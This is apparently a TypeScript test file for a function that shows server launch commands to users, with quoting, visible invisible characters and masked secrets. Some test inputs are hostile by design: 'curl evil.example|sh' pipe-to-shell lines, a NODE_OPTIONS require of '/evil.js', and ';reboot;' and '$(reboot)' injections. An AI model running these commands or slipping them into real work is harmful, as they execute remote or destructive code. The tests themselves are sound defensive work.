import { describe, expect, it } from 'vitest'
import type { ServerTarget } from '../server-config.ts'
import { makeVisible, showCommand, withoutSecrets } from './show-command.ts'

const program = (command: string, args: string[], env = {}, more = {}): ServerTarget => {
  return { kind: 'stdio', command, args, env, ...more }
}

describe('the command as the person sees it (sec-93)', () => {
  it.each([
    [program('npx', ['-y', '@scope/server@1.2.3', '/a/b']), 'npx -y @scope/server@1.2.3 /a/b'],
    [program('x', ['two words', '', "it's"]), `x 'two words' '' 'it'\\''s'`],
    [program('x', ['a', 'b']), 'x a b'],
    [program('x', ['a b']), "x 'a b'"],
    [program('sh', ['-c', 'curl x | sh']), "sh -c 'curl x | sh'"],
    [program('x', [], {}, { cwd: '/my dir', envFile: '.env' }), "(environment from .env) x (in '/my dir')"],
    [program('x', [`\${HOME}/a`]), `x \${HOME}/a`],
    [program('x', [], { A: '1', TOKEN: `\${secret:t}` }), `A=1 TOKEN=\${secret:t} x`],
    [program('x', [], { NODE_OPTIONS: '--require /evil.js' }), "NODE_OPTIONS='--require /evil.js' x"],
    [{ kind: 'http', url: 'https://x.example/mcp?a=1', headers: {} }, 'https://x.example/mcp?a=1'],
    [
      { kind: 'sse', url: 'https://x.example', headers: { Authorization: `Bearer \${secret:t}`, 'X-Team': 'core' } },
      `https://x.example · Authorization: 'Bearer \${secret:t}' · X-Team: core`,
    ],
    [{ kind: 'in-process', module: 'time', options: {} }, 'time (in this process)'],
  ] as [ServerTarget, string][])('%j', (target, shown) => {
    expect(showCommand(target)).toBe(shown)
  })

  it('is never cut, however long', () => {
    const args = Array.from({ length: 500 }, (_, at) => `--option-${at}=${'x'.repeat(20)}`)
    const shown = showCommand(program('server', [...args, '&&', 'curl evil.example|sh']))
    expect(shown.length).toBeGreaterThan(10_000)
    expect(shown).toBe(`server ${args.join(' ')} '&&' 'curl evil.example|sh'`)
  })

  it('makes visible what cannot be seen', () => {
    const hidden = 'a\u202Eb\u200Bc\u0007d\u001B[2Ke\u{E0041}f\u2028g\u00ADh\u3164i\uFE0Fj\u00A0k\nl\uD800m'
    const shown = showCommand(program('x', [hidden]))
    const codes = ['202E', '200B', '0007', '001B', 'E0041', '2028', '00AD', '3164', 'FE0F', '00A0', '000A', 'D800']
    for (const code of codes) expect(shown).toContain(`⟦U+${code}⟧`)
    expect(/[^\x20-\x7E⟦⟧]/u.test(shown)).toBe(false)
    expect(makeVisible('Grüße, 世界 👍 naïve')).toBe('Grüße, 世界 👍 naïve')
  })

  it.each([
    program('x', [], { API_KEY: 'canary' }),
    program('x', [], { OTHER: `ghp_canary${'a'.repeat(30)}` }),
    program('x', [], { PASSWORD: `\${A}canary` }),
    program('x', [], { PASSWORD: `\${A:-canary}` }),
    program('x', [], { PORTICO_SQL_URL: 'postgres://reader:canary@db.example/shop' }),
    program('x', [], { PORTICO_MONGO_URL: 'mongodb+srv://reader:canary@a.example,b.example/shop' }),
    program('x', [], { DATABASES: '{"a": "postgres://reader:c@n/canary@db.example"}' }),
    program('x', [], { PROXY: 'http://canary@proxy.example' }),
    program('x', [], { PLACE: 'https://x.example/?api_key=canary' }),
    program('x', [], { PLACE: `postgres://\${USER:-canary}:\${PW:-canary}@x.example` }),
    program('x', [], { PLACE: `postgres://reader:canary:\${PW}@x.example` }),
    program('x', ['--db=postgres://reader:canary@db.example/shop']),
    program('x', ['mysql://reader:canary@db.example/shop']),
    program('x', ['https://x.example/?a=1&token=canary']),
    { kind: 'http', url: 'https://x.example', headers: { 'X-Upstream': 'amqp://me:canary@q.example' } },
    { kind: 'http', url: 'https://me:c@n/canary@x.example/', headers: {} },
    { kind: 'http', url: 'https://me:canary@x.example/?token=canary&b=1', headers: { Authorization: 'Bearer canary' } },
  ] as ServerTarget[])('does not show a secret that is written out: %#', (target) => {
    expect(showCommand(target)).not.toContain('canary')
    expect(showCommand(target)).toContain('‹hidden›')
    expect(JSON.stringify(withoutSecrets(target))).not.toContain('canary')
  })

  it.each([
    program('sh', ['-c', 'a://b:;reboot;@c']),
    program('sh', ['-c', 'a://b?token=$(reboot)']),
    program('x', [], { GIT_SSH_COMMAND: 'a://b:;reboot;@c' }),
    program('x', ['git+ssh://git@github.example/a/b', 'https://x.example:8080/@scope/reboot', 'reboot@x.example']),
    program('x', [`postgres://reader:\${secret:reboot}@db.example`]),
  ])('shows what may be code, or is no secret, between the marks of an address: %#', (target) => {
    expect(showCommand(target)).toContain('reboot')
    expect(showCommand(target)).not.toContain('‹hidden›')
  })

  it('takes linear time for hostile addresses', () => {
    const url = `https://x.example/${'?'.repeat(500_000)}`
    expect(showCommand({ kind: 'http', url, headers: {} })).toBe(url)
  })
})
